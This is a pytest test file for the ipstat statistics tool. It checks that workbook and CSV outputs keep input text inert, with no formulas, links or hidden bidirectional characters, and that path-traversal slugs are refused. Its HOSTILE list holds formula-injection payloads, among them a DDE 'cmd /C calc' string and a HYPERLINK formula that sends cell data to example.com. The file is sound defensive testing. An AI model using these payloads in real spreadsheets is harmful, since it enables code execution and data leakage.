"""Text from input stays text in every workbook ipstat writes (issue 19, items 5 and 12): never
a formula, never a link, controls and bidirectional overrides shown as on the terminal; and the
history's CSV neutralises what a spreadsheet would run as a formula (item 6)."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from python_calamine import CalamineWorkbook
from typer.testing import CliRunner

from ipstat.base.findings import FileReport, Finding, Vocabulary
from ipstat.base.visible import visible
from ipstat.bloc.document import dumps, loads, to_document
from ipstat.bloc.series import build_history
from ipstat.bloc.totals import Aggregate, Source, derive, sum_members
from ipstat.cli import app
from ipstat.commands.history import write_history
from ipstat.contract.model import Contract, load_contract
from ipstat.contract.scoring_table import load_scoring
from ipstat.outputs.annotate import SHEET, annotate_reports
from ipstat.outputs.cells import shown
from ipstat.outputs.consolidated import write_consolidated
from ipstat.outputs.emulation_forms import build_adjustment_form, build_registration_form
from ipstat.outputs.forms import build_form
from ipstat.outputs.tidy import to_csv
from tests.conftest import VALID
from tests.legacy_books import to_ods

ROOT = Path(__file__).parents[1]
GOLDEN = ROOT / "tests" / "golden" / "tong-hop-2016.json"
# Each a formula, a link or a trick to a spreadsheet program, were it written as it is.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.com/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "http://example.com",
    "mailto:x@y",
    "external:\\\\h\\s\\x.xlsx",
    "bieu\u202eslx.xlsx",
    "_x0041_",
]
# What a bloc file may name its members: the bloc refuses invisible characters (U+202E).
MEMBER_NAMES = [name for name in HOSTILE if name.isprintable() and "\u202e" not in name]
SUM = re.compile(r"=SUM\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)")  # ipstat's own totals
runner = CliRunner()


def shown_texts(path: Path, links: Callable[[Any], bool] = lambda cell: False) -> set[str]:
    """Every text a spreadsheet program shows in `path` (calamine is the oracle), after checking
    that openpyxl finds no formula but ipstat's totals and no link but those `links` allows."""
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = (sheet.title, cell.coordinate, cell.value)
                assert cell.data_type != "f" or SUM.fullmatch(str(cell.value)), where
                assert cell.hyperlink is None or links(cell), where
    with zipfile.ZipFile(path) as archive:
        rels = [n for n in archive.namelist() if n.endswith(".rels")]
        assert not any(b"hyperlink" in archive.read(n) for n in rels)  # no link out of the file
    calamine = CalamineWorkbook.from_path(str(path))
    texts = {
        value
        for name in calamine.sheet_names
        for row in calamine.get_sheet_by_name(name).to_python()
        for value in row
        if isinstance(value, str)
    }
    raw = [t for t in texts if visible(t, keep="\t\n") != t]
    assert not raw, raw  # no control or bidirectional character reaches a reader unseen
    return texts


def renamed(text: str, names: dict[str, str]) -> str:
    """A JSON document's text with each quoted name replaced by another, quoted as JSON."""
    for old, new in names.items():
        text = text.replace(json.dumps(old, ensure_ascii=False), json.dumps(new))
    return text


def test_consolidated_workbook(tmp_path: Path) -> None:
    document = loads(GOLDEN.read_text(encoding="utf-8"))
    members = dict(zip(document["members"], HOSTILE, strict=False))
    files = {
        s["file"]: f"{name}.xlsx" for s, name in zip(document["sources"], HOSTILE, strict=False)
    }
    document = loads(renamed(GOLDEN.read_text(encoding="utf-8"), {**members, **files}))
    path = tmp_path / "tong-hop-2016.xlsx"
    write_consolidated(path, document)
    texts = shown_texts(path)
    assert {shown(name) for name in HOSTILE} <= texts  # the members, in every section sheet
    assert {shown(f"{name}.xlsx") for name in HOSTILE} <= texts  # the files, in `Nguồn`
    assert "bieu<U+202E>slx.xlsx.xlsx" in texts and "_x0041_" in texts


def history_document(folder: Path, year: int, contract: Contract, file: str) -> Path:
    """A year's document as `aggregate` writes it, the members named as HOSTILE, one figure
    negative, read from source files named as HOSTILE too."""
    base = loads(GOLDEN.read_text(encoding="utf-8"))["provinces"]
    provinces = {
        name: {code: Decimal(value) for code, value in figures.items()}
        for name, figures in zip(HOSTILE, base.values(), strict=False)
    }
    provinces[HOSTILE[0]]["fdi_added_capital"] = Decimal("-12.5")
    codes = [i.code for i in contract.form.indicators]
    totals = sum_members(provinces, codes)
    aggregate = Aggregate(
        year=year,
        members=list(provinces),
        missing=[],
        totals=totals,
        derived=derive(totals, contract),
        provinces=provinces,
        sources=[Source(f"{name}.xlsx", f"{i:064x}", name, {}) for i, name in enumerate(provinces)],
    )
    path = folder / file
    path.write_text(dumps(to_document(aggregate, contract)) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def hostile_history(tmp_path: Path, contract: Contract) -> list[Path]:
    return [
        history_document(tmp_path, 2016, contract, "=1+1-2016.json"),
        history_document(tmp_path, 2017, contract, "bieu\u202e-2017.json"),
    ]


def test_history_workbook(hostile_history: list[Path], contract: Contract, tmp_path: Path) -> None:
    run = write_history(hostile_history, contract, out=tmp_path / "out", formats=["xlsx"])
    texts = shown_texts(run.files[0])
    assert {shown(name) for name in HOSTILE} <= texts
    assert {"=1+1-2016.json", "bieu<U+202E>-2017.json"} <= texts  # `Nguồn`


def csv_rows(paths: list[Path], contract: Contract) -> list[dict[str, str]]:
    history = build_history(paths, contract, mapped=False)
    return list(csv.DictReader(io.StringIO(to_csv(history).removeprefix("\ufeff"))))


def test_history_csv_neutralises_formula_text_and_keeps_numbers(
    hostile_history: list[Path], contract: Contract, tmp_path: Path
) -> None:
    rows = csv_rows(hostile_history, contract)
    starts = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for column in ("member", "indicator", "unit", "mapped_from", "source", "sha256"):
            assert not row[column].startswith(starts), row[column]
    members = {row["member"] for row in rows}
    assert members == {
        "'=1+1",
        '\'=HYPERLINK("http://example.com/?d="&A1,"x")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(A1)",
        "'-2+3",
        "http://example.com",  # no formula: left as it is
        "mailto:x@y",
        "external:\\\\h\\s\\x.xlsx",
        "bieu\u202eslx.xlsx",
        "_x0041_",
    }
    sources = {row["source"] for row in rows}
    assert sources == {"'=1+1-2016.json", "bieu\u202e-2017.json"}  # raw but inert: no formula
    negative = next(
        row for row in rows if row["member"] == "'=1+1" and row["code"] == "fdi_added_capital"
    )
    assert negative["value"] == "-12.5"  # a number, never quoted away
    assert [Decimal(row["value"]) for row in rows]  # every value a number, as it was
    [saved] = write_history(hostile_history, contract, out=tmp_path, formats=["json"]).files
    data = json.loads(saved.read_text(encoding="utf-8"))
    assert {row["member"] for row in data["rows"]} == set(HOSTILE)  # the JSON keeps them raw


def test_history_csv_neutralises_tab_and_carriage_return(
    hostile_history: list[Path], contract: Contract, tmp_path: Path
) -> None:
    names = {"=1+1": "\tTab", "@SUM(A1)": "\rCR"}
    paths = []
    for path in hostile_history:
        target = tmp_path / "tabs" / path.name
        target.parent.mkdir(exist_ok=True)
        target.write_text(renamed(path.read_text(encoding="utf-8"), names), encoding="utf-8")
        paths.append(target)
    assert {"'\tTab", "'\rCR"} <= {row["member"] for row in csv_rows(paths, contract)}


def hostile_bloc(folder: Path, names: list[str]) -> Path:
    """A bloc file (`--bloc path.toml`) whose members are named `names`."""
    lines = ['id = "thu"', 'name = "Khối thử"', 'scoring = "dbsh"']
    for index, name in enumerate(names):
        lines += ["[[members]]", f"name = {json.dumps(name)}", f'slug = "tv-{index}"']
    path = folder / "khoi.toml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_template_forms(tmp_path: Path) -> None:
    contract = load_contract(bloc=hostile_bloc(tmp_path, MEMBER_NAMES))
    scoring = load_scoring(contract)
    assert scoring is not None
    books = {"dieu-chinh.xlsx": build_adjustment_form(contract, scoring, 2016)}
    for member in contract.bloc.members:
        books[f"bieu-{member.slug}.xlsx"] = build_form(contract, 2016, member, scoring=scoring)
        books[f"dang-ky-{member.slug}.xlsx"] = build_registration_form(
            contract, scoring, 2016, member
        )
    info = contract.form.info_sheet.name
    for name, book in books.items():
        path = tmp_path / name
        book.save(path)
        texts = shown_texts(path)
        if name == "dieu-chinh.xlsx":
            assert {shown(member) for member in MEMBER_NAMES} <= texts
            continue
        member = contract.bloc.members[int(name.split("-")[-1].removesuffix(".xlsx"))]
        filled = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(info).to_python()
        assert filled[3][2] == shown(member.name)  # `Thông tin!C4`, the member's name


def fill(path: Path, sheet: str, values: dict[str, Any], column: int = 3) -> None:
    book = openpyxl.load_workbook(path)
    for row in book[sheet].iter_rows():
        if str(row[0].value) in values:
            row[column].value = values[str(row[0].value)]
    book.save(path)


def run(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout + result.stderr


def test_scoring_workbook_and_its_adjustments_read_back(tmp_path: Path) -> None:
    """Members, reasons and file names from input are text in `cham-diem`, and the workbook
    reads back as `--adjustments`."""
    names = MEMBER_NAMES[:-1]  # `_x0041_` is read back as its own text: see test_template_forms
    bloc = str(hostile_bloc(tmp_path, names))
    yearly, registered = tmp_path / "bieu", tmp_path / "dang-ky"
    for folder, kind in ((yearly, []), (registered, ["--registration"])):
        code, out = run(
            "template", "--bloc", bloc, *kind, "--all", "--year", "2016", "-o", str(folder)
        )
        assert code == 0, out
    for index, path in enumerate(sorted(yearly.glob("*.xlsx"))):
        fill(path, "Chỉ tiêu", VALID)
        fill(path, "Tự chấm điểm", {"II.1": 10 + index % 5, "II.2": 10, "II.3": 4.5})
        path.rename(yearly / f"{names[index]}.xlsx".replace("/", "_"))
    for path in registered.glob("*.xlsx"):
        fill(path, "Đăng ký", {"fdi_new_capital": 190, "ddi_new_capital": 2000,
                               "fdi_disbursed_year": 100})  # fmt: skip
    previous = tmp_path / "tong-hop-2015.json"
    figures = {"export_usd": 1000, "budget_vnd": 400, "workers": 30000}
    previous.write_text(
        json.dumps(
            {"year": 2015, "provinces": dict.fromkeys(names, figures)}
            | {key: {} for key in ("bloc", "derived", "totals")}
            | {key: [] for key in ("indicators", "members", "missing")}
        ),
        encoding="utf-8",
    )
    adjustments = tmp_path / "dieu-chinh.xlsx"
    assert (
        run("template", "--bloc", bloc, "--adjustments", "--year", "2016", "-o", str(adjustments))[
            0
        ]
        == 0
    )
    book = openpyxl.load_workbook(adjustments)
    reasons = ["Lý do \u202eđảo chiều", *HOSTILE[: len(names) - 1]]  # a row a member
    rows = list(book["Điều chỉnh"].iter_rows(min_row=4))
    assert len(rows) == len(reasons)
    for row, reason in zip(rows, reasons, strict=True):
        row[2].value = 10
        row[3].value = reason
        row[3].data_type = "s"  # as a clerk types it: text
    book.save(adjustments)

    def score(adjusted: Path, out: Path) -> dict[str, Any]:
        code, said = run(
            "score", "--bloc", bloc, str(yearly), "--registrations", str(registered),
            "--previous", str(previous), "--adjustments", str(adjusted), "--out", str(out),
        )  # fmt: skip
        assert code == 0, said
        return dict(loads((out / "cham-diem-2016.json").read_text(encoding="utf-8")))

    first = score(adjustments, tmp_path / "out")
    written = tmp_path / "out" / "cham-diem-2016.xlsx"
    texts = shown_texts(written)
    assert {shown(name) for name in names} <= texts  # `Bảng điểm`, `Điều chỉnh`, `Nguồn`
    assert {shown(reason) for reason in reasons} <= texts
    assert "Lý do <U+202E>đảo chiều" in texts
    assert any("thực hiện: =1+1.xlsx › Chỉ tiêu!D" in t for t in texts)  # a source file
    comments = [
        cell.comment.text
        for row in openpyxl.load_workbook(written)["Bảng điểm"].iter_rows()
        for cell in row
        if cell.comment is not None
    ]
    assert comments and all(visible(c, keep="\t\n") == c for c in comments)
    again = score(written, tmp_path / "again")

    def points(document: dict[str, Any]) -> dict[str, Any]:
        return {
            name: {code: p["points"] for code, p in member["criteria"].items()}
            for name, member in document["members"].items()
        }

    assert set(again["members"]) == set(names)
    assert points(again) == points(first)
    reasons_again = {
        p["adjustment"]["reason"]
        for member in again["members"].values()
        for p in member["criteria"].values()
        if p["adjustment"]
    }
    assert reasons_again == {shown(reason) for reason in reasons}


Make = Callable[..., Path]


def test_annotated_copy_of_a_values_only_workbook(
    make_workbook: Make, tmp_path: Path, vocabulary: Vocabulary
) -> None:
    def notes(book: Any) -> None:
        sheet = book["Chỉ tiêu"]
        for row, text in enumerate(HOSTILE, start=6):
            sheet.cell(row=row, column=5).value = text
            sheet.cell(row=row, column=5).data_type = "s"

    source = to_ods(make_workbook(edit=notes), tmp_path / "bieu.ods")
    findings = [
        Finding(str(source), "negative-value", "error", text, "Chỉ tiêu", "D9", "ddi_new_capital")
        for text in HOSTILE
    ]
    [copy] = annotate_reports(
        [FileReport(source, findings, [])], tmp_path / "out", vocabulary
    ).written

    def own_link(cell: Any) -> bool:
        """The findings sheet's links go to a cell of this workbook, nowhere else."""
        link = cell.hyperlink
        return cell.parent.title == SHEET and link.target is None and bool(link.location)

    texts = shown_texts(copy, own_link)
    assert {shown(text) for text in HOSTILE} <= texts


SOURCE = ROOT / "src" / "ipstat"


def test_every_writer_goes_through_the_text_helpers() -> None:
    """Structural, not per call site: no workbook is made, and no openpyxl cell given a value,
    but through `outputs/cells.py`; only the annotated copy links (to its own cells)."""
    bypasses = {
        "an XlsxWriter workbook not from xlsx_book": re.compile(r"xlsxwriter\.Workbook\("),
        "an openpyxl value not through set_value": re.compile(
            r"\.cell\([^()]*value=|\.value\s*=(?!=)|sheet\[[^\]]*\]\s*=(?!=)|sheet\.append\("
        ),
    }
    found = []
    for path in sorted(SOURCE.rglob("*.py")):
        if path.name == "cells.py":
            continue
        text = path.read_text(encoding="utf-8")
        found += [
            f"{path.name}: {what}" for what, pattern in bypasses.items() if pattern.search(text)
        ]
        if ".hyperlink =" in text and path.name != "annotate.py":
            found.append(f"{path.name}: a link")
    assert not found


@pytest.mark.parametrize("library", ["xlsxwriter", "openpyxl"])
def test_the_helpers_alone(tmp_path: Path, library: str) -> None:
    """Every way of writing a string to an XlsxWriter sheet, and openpyxl's, give shown text."""
    from ipstat.outputs.cells import set_value, xlsx_book

    path = tmp_path / "x.xlsx"
    if library == "openpyxl":
        book = openpyxl.Workbook()
        sheet = book.active
        assert sheet is not None
        for row, text in enumerate(HOSTILE, start=1):
            set_value(sheet.cell(row=row, column=1), text)
        book.save(path)
    else:
        xlsx = xlsx_book(path)
        sheet = xlsx.add_worksheet("x")
        for row, text in enumerate(HOSTILE):
            sheet.write(row, 0, text)
            sheet.write_string(row, 1, text)
            sheet.write_row(row, 2, [text])
            sheet.merge_range(row, 3, row, 4, text)
        sheet.write_formula(20, 0, "=SUM(A1:A2)")  # intended: stays a formula
        xlsx.close()
    texts = shown_texts(path)
    assert {shown(text) for text in HOSTILE} <= texts
    assert "_x0041_" in texts and "bieu<U+202E>slx.xlsx" in texts
    if library == "xlsxwriter":
        assert openpyxl.load_workbook(path)["x"]["A21"].data_type == "f"


def test_a_name_as_a_workbook_shows_it_matches_the_member() -> None:
    """The form and the scoring workbook show `<U+202E>` for the character: read back, the name
    still names its member."""
    from ipstat.reading.members import member_key

    assert member_key(shown("Hà\u202eNam"), ()) == member_key("Hà\u202eNam", ())


@pytest.mark.parametrize("name", ["bieu\u202eslx", "Hà\x07Nam", "Hà\u200fNam"])
def test_a_bloc_member_with_an_invisible_character_is_refused(tmp_path: Path, name: str) -> None:
    from ipstat.contract.checked import ContractError

    with pytest.raises(ContractError, match="ký tự điều khiển hoặc ký tự ẩn"):
        load_contract(bloc=hostile_bloc(tmp_path, [name]))


@pytest.mark.parametrize("slug", ["../ngoai", "Ha Nam", "ha/nam", "", "ha-nam-"])
def test_a_slug_that_is_no_file_name_part_is_refused(tmp_path: Path, slug: str) -> None:
    from ipstat.contract.checked import ContractError

    path = hostile_bloc(tmp_path, ["Hà Nam"])
    path.write_text(path.read_text(encoding="utf-8").replace('"tv-0"', json.dumps(slug)), "utf-8")
    with pytest.raises(ContractError, match="Tên viết tắt"):
        load_contract(bloc=path)
